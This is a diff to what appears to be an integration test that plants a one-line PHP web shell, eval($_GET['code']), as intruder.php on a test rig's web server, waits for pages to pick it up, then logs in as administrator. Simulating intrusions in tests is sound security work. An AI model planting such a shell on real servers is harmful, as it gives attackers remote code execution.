@@ -314,6 +314,11 @@ describeWithRig(
       await host().run(
         `echo '<?php eval($_GET["code"]);' | ${apache} tee /var/www/html/intruder.php >/dev/null`,
       );
+      // Announced as WordPress announces a change of its code, so that pages have it too.
+      await host().run(
+        `${apache} bash --norc -c 'cd /var/www/html/.fleet && echo "$(date +%s.%6N) changed hold" >code.new && mv code.new code'`,
+      );
+      await eventually("pages to have the planted code", 60, async () => (await inPhp("echo 1;")) === "1");
       const { password } = rig().secrets["aws_secretsmanager_secret.administrator"];
       editor = await Editor.logIn(rig().visitors, rig().site.value("ADMIN_USER"), password!);
     });
